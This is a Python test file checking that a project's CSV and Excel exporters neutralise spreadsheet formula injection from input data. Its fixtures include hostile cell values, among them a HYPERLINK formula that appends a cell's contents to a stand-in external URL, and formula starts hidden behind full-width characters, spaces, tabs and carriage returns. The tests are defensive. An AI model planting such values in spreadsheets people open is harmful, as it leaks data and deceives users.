"""No text from an input file becomes a live formula in any spreadsheet the project writes."""

from __future__ import annotations

import pytest
from paper_helpers import write_csv

from chatdojo.cellsafety import defuse
from chatdojo.paper import export
from chatdojo.paper.compare import compare
from chatdojo.paper.io import read_usage

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click me")',
    "＝1+1",
    "+SUM(1,2)",
    "@SUM(1)",
    "-2+3",
    "  =1+1",
    "\u3000＠cmd",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_defuse_prefixes_every_formula_start(text):
    """Is each formula start (ASCII, full width, after spaces, tab, CR) made text?"""
    assert defuse(text) == "'" + text


@pytest.mark.parametrize("value", ["総務課", "Finance", "", "  ", "2024-04", "a=b", 12, -3.5, None])
def test_defuse_leaves_plain_text_and_numbers(value):
    """Are ordinary names, empty text and numbers (even negative) left as they are?"""
    assert defuse(value) == value


def _hostile_usage(tmp_path):
    rows = [["年月", "部署", "枚数", "金額"]]
    departments = ['=HYPERLINK("http://example.invalid/?x="&A1,"Click me")', "＝1+1", "@総務"]
    for year in (2023, 2024):
        for month in range(4, 7):
            for i, dept in enumerate(departments):
                sheets = 1000 - (year - 2023) * 300 + i * 10
                rows.append([f"{year}-{month:02d}", dept, sheets, sheets * 3])
    return write_csv(tmp_path / "hostile.csv", rows)


def test_paper_workbook_has_no_formula_from_input(tmp_path):
    """Does the paper workbook keep hostile department names as text (no cell is a formula)?"""
    from openpyxl import load_workbook

    comparison = compare(read_usage(_hostile_usage(tmp_path)))
    path = export.write_xlsx(comparison, tmp_path / "out.xlsx")
    book = load_workbook(path)
    names = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if sheet.title == "部署別" and cell.column == 1 and cell.row > 1:
                    names.append(cell.value)
    assert "'＝1+1" in names or "'=1+1" in names
    assert any(str(n).startswith("'=HYPERLINK") for n in names)


def test_session_results_and_learners_report_use_the_same_rule(tmp_path, capsysbinary):
    """Do results CSV/xlsx and the learners report defuse full-width and space-led formulas too?"""
    import csv
    import io

    import pandas as pd
    from openpyxl import load_workbook

    from chatdojo.cli import main
    from chatdojo.store import learners
    from chatdojo.store.db import open_store
    from chatdojo.store.results import to_csv, to_xlsx_sheets

    frame = pd.DataFrame({"nickname": ["＝1+1", " =1+1", "山田"], "score": [1.0, -1.0, 0.5]})
    rows = list(csv.DictReader(io.StringIO(to_csv(frame).decode("utf-8-sig"))))
    assert [r["nickname"] for r in rows] == ["'＝1+1", "' =1+1", "山田"]
    book = load_workbook(io.BytesIO(to_xlsx_sheets({"answers": frame})))
    cells = [c for row in book["answers"].iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in book["answers"]["B"]][1:] == [1.0, -1.0, 0.5]  # numbers untouched

    url = f"sqlite:///{tmp_path / 'learners.db'}"
    store = open_store(url)
    learners.create_learner(store, "＠admin")
    store.close()
    assert main(["learners", "report", "--db", url]) == 0
    text = capsysbinary.readouterr().out.decode("utf-8-sig")
    assert [r["learner"] for r in csv.DictReader(io.StringIO(text))] == ["'＠admin"]
